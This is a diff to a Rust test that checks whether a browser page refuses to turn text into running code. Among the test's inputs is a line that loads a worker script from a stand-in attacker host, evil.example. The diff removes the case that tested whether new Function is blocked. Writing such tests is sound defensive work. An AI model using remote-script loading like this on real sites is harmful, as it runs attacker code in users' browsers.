@@ -117,7 +117,6 @@ fn no_text_becomes_a_program() {
             ),
             ("a worker from elsewhere", "new Worker('https://evil.example/x.js')"),
             ("a worker made here", "new Worker(URL.createObjectURL(new Blob(['1'])))"),
-            ("a text", "new Function('return 1')()"),
         ] {
             let tried = format!("try {{ {script}; return 'ran'; }} catch (error) {{ return error.name; }}");
             assert_ne!(page.js(&tried, json!(null)).await, json!("ran"), "{what}");
